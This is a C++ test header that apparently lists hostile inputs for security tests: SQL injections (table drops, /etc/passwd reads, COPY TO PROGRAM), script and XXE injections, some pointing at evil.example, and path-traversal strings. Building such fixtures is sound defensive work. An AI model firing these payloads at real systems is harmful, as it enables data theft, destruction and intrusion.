#pragma once

#include <array>
#include <string_view>

namespace macadam::testing {

// Texts made to harm, as attackers and their tools send them.

using namespace std::string_view_literals;

/// SQL, for SQLite and PostgreSQL, after an end of the text or number that it is put into.
inline constexpr std::array sql_injections{
    "'"sv,
    "''"sv,
    "\""sv,
    "`"sv,
    "';"sv,
    "' OR '1'='1"sv,
    "' OR 1=1--"sv,
    "' OR 1=1#"sv,
    "' OR 1=1/*"sv,
    "\" OR \"\"=\""sv,
    "') OR ('1'='1"sv,
    "')) OR (('1'='1"sv,
    "1 OR 1=1"sv,
    "1) OR (1=1"sv,
    "0 UNION SELECT 1"sv,
    "' UNION SELECT NULL--"sv,
    "' UNION SELECT name, sql FROM sqlite_master--"sv,
    "' UNION ALL SELECT owner, secret_sha256 FROM token--"sv,
    "-1 UNION SELECT group_concat(tbl_name) FROM sqlite_schema"sv,
    "' AND (SELECT count(*) FROM trip) > 0--"sv,
    "' AND substr((SELECT sql FROM sqlite_master LIMIT 1), 1, 1) = 'C'--"sv,
    "'; DROP TABLE segment; --"sv,
    "'; DELETE FROM pass; --"sv,
    "'; UPDATE segment SET iri = 0; --"sv,
    "'; INSERT INTO token VALUES ('a'); --"sv,
    "'; ATTACH DATABASE 'owned.db' AS owned; CREATE TABLE owned.t (i); --"sv,
    "'; PRAGMA writable_schema = ON; --"sv,
    "'; VACUUM INTO 'owned.db'; --"sv,
    "'||(SELECT load_extension('owned.so'))||'"sv,
    "'||(SELECT writefile('owned.txt', 'x'))||'"sv,
    "'||(SELECT readfile('/etc/passwd'))||'"sv,
    "'||randomblob(1000000000)||'"sv,
    "' AND 1=randomblob(500000000)--"sv,
    "'; SELECT pg_sleep(10); --"sv,
    "'||pg_sleep(10)||'"sv,
    "'; COPY segment TO PROGRAM 'touch owned.txt'; --"sv,
    "'; SELECT pg_read_file('/etc/passwd'); --"sv,
    "'; SELECT lo_import('/etc/passwd'); --"sv,
    "'; GRANT ALL ON ALL TABLES IN SCHEMA macadam TO PUBLIC; --"sv,
    "' AND extractvalue(1, concat(0x7e, version()))--"sv,
    "'; WAITFOR DELAY '0:0:10'--"sv,
    "'; EXEC xp_cmdshell('dir'); --"sv,
    "1; SELECT * FROM information_schema.tables"sv,
    "%27%20OR%201=1--"sv, // encoded once more
    "%2527 OR 1=1--"sv,
    "\\' OR 1=1--"sv,
    "\xbf' OR 1=1--"sv, // the first half of a letter in GBK
    "ʼ OR 1=1--"sv,     // letters that look like a quote, or become one
    "＇ OR 1=1--"sv,
    "'/**/OR/**/1=1--"sv,
    "$1; $$ OR 1=1 $$"sv,
    "CHAR(39)||CHAR(49)"sv,
    "'\0' OR 1=1--"sv,
    "' GLOB '*"sv,
    "x' LIKE '%"sv,
    "iri; DROP TABLE segment"sv,
};

/// Markup that runs a script or calls another site where it is shown as it is.
inline constexpr std::array markup_injections{
    "<script>alert(1)</script>"sv,
    "</title><script>alert(1)</script>"sv,
    "</pre><script>alert(1)</script>"sv,
    "\"><script>alert(1)</script>"sv,
    "'><script>alert(1)</script>"sv,
    "<ScRiPt>alert(1)</ScRiPt>"sv,
    "<script\n>alert(1)</script\n>"sv,
    "<scr<script>ipt>alert(1)</script>"sv,
    "<script src=//evil.example/a.js></script>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "<svg onload=alert(1)>"sv,
    "<svg/onload=alert(1)>"sv,
    "<body onload=alert(1)>"sv,
    "<details open ontoggle=alert(1)>"sv,
    "\" onmouseover=\"alert(1)"sv,
    "' onfocus='alert(1)' autofocus='"sv,
    "<a href=\"javascript:alert(1)\">x</a>"sv,
    "http://x\" onclick=\"alert(1)"sv, // as the pages make links of addresses
    "<iframe src=//evil.example></iframe>"sv,
    "<object data=//evil.example></object>"sv,
    "<meta http-equiv=refresh content=0;url=//evil.example>"sv,
    "<base href=//evil.example>"sv,
    "<style>@import '//evil.example';</style>"sv,
    "<form action=//evil.example><input name=token></form>"sv,
    "<!--<script>alert(1)</script>"sv,
    "<![CDATA[<script>alert(1)</script>]]>"sv,
    "<?xml version=\"1.0\"?><x/>"sv,
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"sv,
    "&lt;script&gt;alert(1)&lt;/script&gt;"sv, // that must not be taken for escaped
    "&#60;script&#62;alert(1)&#60;/script&#62;"sv,
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"sv,
    "\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>"sv,
};

/// Paths out of the folder of a server to `secret.txt` beside it, or to files of the system. In the
/// folder is a folder `a`.
inline constexpr std::array path_traversals{
    "/../secret.txt"sv,
    "/../../secret.txt"sv,
    "/../../../../../../../../etc/passwd"sv,
    "/%2e%2e/secret.txt"sv,
    "/%2e%2e%2fsecret.txt"sv,
    "/..%2fsecret.txt"sv,
    "/.%2e/secret.txt"sv,
    "/%2e./secret.txt"sv,
    "/%2E%2E/secret.txt"sv,
    "/..%5csecret.txt"sv,
    "/%2e%2e%5csecret.txt"sv,
    "/..\\secret.txt"sv,
    "/..\\..\\secret.txt"sv,
    "/a/../../secret.txt"sv,
    "/a/%2e%2e/%2e%2e/secret.txt"sv,
    "/a/..%2f..%2fsecret.txt"sv,
    "/a/..\\..\\secret.txt"sv,
    "//etc/passwd"sv,
    "///etc/passwd"sv,
    "/%2fetc/passwd"sv,
    "/%2f%2fetc%2fpasswd"sv,
    "/%252e%252e/secret.txt"sv,
    "/%252e%252e%252fsecret.txt"sv,
    "/%25252e%25252e/secret.txt"sv,
    "/%c0%ae%c0%ae/secret.txt"sv, // a point and a slash of too many bytes
    "/%c0%ae%c0%ae%c0%afsecret.txt"sv,
    "/%e0%80%ae%e0%80%ae/secret.txt"sv,
    "/%u002e%u002e/secret.txt"sv,
    "/%ef%bc%8e%ef%bc%8e/secret.txt"sv, // wide points
    "/....//secret.txt"sv,
    "/..../secret.txt"sv,
    "/.../secret.txt"sv,
    "/..;/secret.txt"sv,
    "/..;a=b/secret.txt"sv,
    "/../secret.txt%00.html"sv,
    "/..%00/secret.txt"sv,
    "/%00../secret.txt"sv,
    "/./../secret.txt"sv,
    "/.//..//secret.txt"sv,
    "/a/./.././../secret.txt"sv,
    "/..//secret.txt"sv,
    "/../secret.txt?f=html"sv,
    "/..%0d%0a/secret.txt"sv,
    "/proc/self/environ"sv,
    "/proc/self/root/etc/passwd"sv,
    "/file:///etc/passwd"sv,
    "/~root/.profile"sv,
    "/C:/secret.txt"sv,
    "/%5c%5clocalhost%5csecret.txt"sv,
};

static_assert(sql_injections.size() >= 50);
static_assert(markup_injections.size() >= 30);
static_assert(path_traversals.size() >= 40);

} // namespace macadam::testing
